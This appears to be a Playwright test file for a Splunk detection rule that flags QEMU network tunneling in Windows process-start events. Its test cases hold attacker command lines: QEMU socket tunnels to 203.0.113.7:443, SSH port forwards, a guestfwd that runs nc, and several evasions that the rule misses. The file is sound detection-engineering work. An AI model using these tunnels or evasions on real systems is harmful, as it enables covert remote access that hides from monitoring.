// The production rule "QEMU Network Tunneling - Windows" (rules/splunk/qemu_network_tunneling_windows.yml),
// macros expanded from rules/splunk/macros.conf, over hand-made 4688 (XML and classic) and Sysmon 1
// events. Expected verdicts follow the matching model of the Splunk documentation cited in
// search.test.ts (segmentation, phrases, TERM, precedence) and the evasion table in docs/evasions.md
// (its Splunk column).
import { expect, test } from '@playwright/test';
import { EmbeddedSplunkBackend } from '../../harness/backends/embedded-splunk.js';
import { fromRoot } from '../../harness/paths.js';
import { loadSplunkRules } from '../../harness/rules/splunk-loader.js';
import type { SplRule } from '../../harness/rules/rule.js';
import type { SplunkRecord } from '../../harness/model/records.js';
import { type ProcessStart, security4688Classic, security4688Xml, sysmon1Xml } from './events.js';

const RULE = loadSplunkRules(fromRoot('rules/splunk/qemu_network_tunneling_windows.yml'))[0] as SplRule;

const Q = 'C:\\Program Files\\qemu\\qemu-system-x86_64.exe';
const I386 = 'C:\\ProgramData\\update\\qemu-system-i386.exe';

interface Case {
  name: string;
  image: string;
  args: string;
  /** Does the rule fire on the 4688 renderings? */
  fires: boolean;
}

// https://help.splunk.com/splunk-enterprise/search/search-manual/10.0/search-primer/event-segmentation-and-searching
// https://help.splunk.com/splunk-enterprise/search/search-manual/10.0/search-primer/use-case-and-term-to-match-phrases
const CASES: Case[] = [
  { name: 'kaspersky tunnel', image: I386, args: '-m 1M -netdev user,id=lan,restrict=off -netdev socket,id=sock,connect=203.0.113.7:443 -netdev hubport,id=port-lan,hubid=0,netdev=lan -netdev hubport,id=port-sock,hubid=0,netdev=sock -nographic', fires: true },
  { name: 'ssh port forward', image: Q, args: '-m 2048 -netdev user,id=n0,hostfwd=tcp::2222-:22 -device e1000,netdev=n0 -nographic', fires: true },
  { name: 'evasion 1: legacy -net', image: Q, args: '-net user,restrict=off -net socket,connect=203.0.113.7:443 -nographic', fires: true },
  { name: 'evasion 2: restrict=no', image: Q, args: '-netdev user,id=n0,restrict=no -netdev socket,id=s,connect=203.0.113.7:443', fires: true },
  { name: 'evasion 3: --nographic', image: Q, args: '-netdev user,id=n0 --nographic', fires: true },
  { name: 'evasion 4: --netdev', image: Q, args: '--netdev user,id=n0,restrict=off --netdev socket,id=s,connect=203.0.113.7:443', fires: true },
  { name: 'evasion 5: JSON back end', image: Q, args: '-netdev "{\\"type\\":\\"socket\\",\\"id\\":\\"sock\\",\\"connect\\":\\"203.0.113.7:443\\"}"', fires: true },
  { name: 'evasion 6: -readconfig', image: Q, args: '-m 1M -readconfig tun.cfg -nographic', fires: false },
  { name: 'evasion 8: renamed binary', image: 'C:\\ProgramData\\update\\stl.exe', args: '-m 256M -drive file=tc.qcow2,if=ide -netdev user,id=n0,hostfwd=tcp::2222-:22', fires: false },
  { name: 'evasion 10: socket listen', image: Q, args: '-netdev socket,id=s,listen=:8443', fires: true },
  { name: 'evasion 12: -nic hostfwd', image: Q, args: '-nic user,hostfwd=tcp::2222-:22', fires: true },
  { name: 'evasion 15: guestfwd', image: Q, args: '-netdev user,id=n0,guestfwd=tcp:10.0.2.100:80-cmd:nc 203.0.113.7 443', fires: true },
  { name: 'evasion 16: quotes in values', image: Q, args: '-netdev user,id=n0,host"fwd"=tcp::2222-:22', fires: true },
  { name: 'evasion 17: quotes in option names', image: Q, args: '-net"dev" user,id=n0,host"fwd"=tcp::2222-:22 -de"vice" e1000,netdev=n0', fires: false },
  { name: 'evasion 18: upper-case binary', image: 'C:\\QEMU\\QEMU-SYSTEM-X86_64.EXE', args: '-netdev user,id=n0', fires: true },
  { name: 'evasion 22: aarch64 GUI twin', image: 'C:\\Program Files\\qemu\\qemu-system-aarch64w.exe', args: '-netdev user,id=n0', fires: true },
  { name: 'benign: display only', image: Q, args: '-m 4096 -smp 2 -drive file=C:\\VMs\\dev.qcow2,format=qcow2 -display sdl', fires: false },
  { name: 'benign: android emulator (-netdelay, -netspeed are not "-net ")', image: Q, args: '-avd Pixel_7 -netdelay none -netspeed full', fires: false },
  { name: 'benign: -net at the very end of the line', image: Q, args: '-m 512 -net', fires: false },
];

let n = 0;
function start(image: string, args: string, host = 'WS01', time = 1_736_936_553.25): ProcessStart {
  n++;
  return { id: `e${n}`, host, time: time + n * 10, image, commandLine: `"${image}" ${args}` };
}

async function fire(records: SplunkRecord[]): Promise<{ ids: string[]; rows: Record<string, string | string[]>[] }> {
  const backend = new EmbeddedSplunkBackend();
  const report = await backend.load(records);
  expect(report.stored).toBe(records.length);
  const result = await backend.run(RULE);
  return { ids: result.eventLevelIds, rows: result.rows };
}

for (const c of CASES) {
  test(`seed rule on 4688 XML and classic: ${c.name} -> ${c.fires ? 'fires' : 'silent'}`, async () => {
    const xml = security4688Xml(start(c.image, c.args));
    const classic = security4688Classic(start(c.image, c.args, 'WS02'));
    const { ids } = await fire([xml, classic]);
    expect(ids).toEqual(c.fires ? [xml._id, classic._id] : []);
  });
}

test('seed rule never fires on Sysmon event 1, however malicious (no 4688 clause matches)', async () => {
  // The rule needs EventCode=4688, <EventID>4688< or Type=Process; a Sysmon event 1 has none of them
  // (splunk/security_content data_sources/sysmon_eventid_1.yml, example_log).
  const sysmon = sysmon1Xml(start(I386, CASES[0]?.args ?? ''));
  expect((await fire([sysmon])).ids).toEqual([]);
});

test('seed rule fires on a Type=Process event of a Windows source type (the third 4688 clause)', async () => {
  // Type=Process is a field comparison: https://docs.splunk.com/Documentation/Splunk/9.0.9/Search/NOTexpressions
  const base = security4688Classic(start(Q, '-netdev user,id=n0'));
  const typed = { ...base, _raw: base._raw.replace('EventCode=4688', 'EventCode=1').replace('Type=Information', 'Type=Process') };
  expect((await fire([typed])).ids).toEqual([typed._id]);
});

test('seed rule ignores events outside the macros\' indexes and source types', async () => {
  const good = security4688Xml(start(Q, '-netdev user,id=n0'));
  const otherIndex = { ...security4688Xml(start(Q, '-netdev user,id=n0')), index: 'main' };
  const otherType = { ...security4688Xml(start(Q, '-netdev user,id=n0')), sourcetype: 'json' };
  expect((await fire([good, otherIndex, otherType])).ids).toEqual([good._id]);
});

test('seed rule rows: several QEMU starts on one host in one second collapse into one row', async () => {
  // stats values(*) AS * BY _time, host after bin span=1s: one row per (1-second bucket, host), values
  // distinct and lexicographically ordered:
  // https://help.splunk.com/splunk-enterprise/spl-search-reference/9.4/statistical-and-charting-functions/multivalue-stats-and-chart-functions
  const t = 1_736_936_553;
  const a = security4688Xml({ id: 'a', host: 'WS01', time: t + 0.1, image: Q, commandLine: `"${Q}" -netdev user,id=n0,hostfwd=tcp::2222-:22`, pid: 0x10 });
  const b = security4688Xml({ id: 'b', host: 'WS01', time: t + 0.7, image: I386, commandLine: `"${I386}" -netdev socket,id=s,connect=203.0.113.7:443`, pid: 0x20, parentImage: 'C:\\Windows\\System32\\svchost.exe' });
  const c = security4688Classic({ id: 'c', host: 'WS01', time: t + 0.9, image: Q, commandLine: `"${Q}" -netdev user,id=n0,hostfwd=tcp::2222-:22`, pid: 0x10 });
  const { rows, ids } = await fire([a, b, c]);
  expect(ids).toEqual(['a', 'b', 'c']);
  expect(rows).toEqual([
    {
      _time: '2025-01-15T10:22:33.000+00:00',
      host: 'WS01',
      user: 'jdoe',
      process: [`"${Q}" -netdev user,id=n0,hostfwd=tcp::2222-:22`, `"${I386}" -netdev socket,id=s,connect=203.0.113.7:443`],
      process_command_line_arguments: ['-netdev socket,id=s,connect=203.0.113.7:443', '-netdev user,id=n0,hostfwd=tcp::2222-:22'],
      // Code-point order: "C:\Program Files" (space, 0x20) before "C:\ProgramData" ("D", 0x44).
      process_command_line_process: [`"${Q}"`, `"${I386}"`],
      process_exec: ['qemu-system-i386.exe', 'qemu-system-x86_64.exe'],
      process_id: ['0x10', '0x20'],
      process_name: ['qemu-system-i386.exe', 'qemu-system-x86_64.exe'],
      process_path: [Q, I386],
      parent_process_name: ['cmd.exe', 'svchost.exe'],
      parent_process_id: '0x22d8',
      parent_process_path: ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\svchost.exe'],
    },
  ]);
});

test('seed rule rows: the same second on two hosts gives two rows, sorted by _time then host', async () => {
  const t = 1_736_936_553;
  const w2 = security4688Xml({ id: 'w2', host: 'WS02', time: t + 0.2, image: Q, commandLine: `"${Q}" -netdev user,id=n0` });
  const w1 = security4688Classic({ id: 'w1', host: 'WS01', time: t + 0.4, image: Q, commandLine: `"${Q}" -netdev user,id=n0` });
  const later = security4688Xml({ id: 'later', host: 'WS01', time: t + 1.0, image: Q, commandLine: `"${Q}" -netdev user,id=n0` });
  const { rows } = await fire([w2, w1, later]);
  expect(rows.map((r) => [r._time, r.host])).toEqual([
    ['2025-01-15T10:22:33.000+00:00', 'WS01'],
    ['2025-01-15T10:22:33.000+00:00', 'WS02'],
    ['2025-01-15T10:22:34.000+00:00', 'WS01'],
  ]);
  expect(rows.every((r) => r.process === `"${Q}" -netdev user,id=n0`)).toBe(true);
});

test('the rule as run: macros expanded, bin behaviour noted', async () => {
  const backend = new EmbeddedSplunkBackend();
  await backend.load([]);
  const result = await backend.run(RULE);
  expect(result.expandedQuery.startsWith('(index=wineventlog OR index=sysmon OR index=linux) (sourcetype=XmlWinEventLog OR sourcetype=WinEventLog) (TERM(EventCode=4688)')).toBe(true);
  expect(result.rows).toEqual([]);
  expect(result.notes.some((note) => note.includes('bin without a field'))).toBe(true);
});
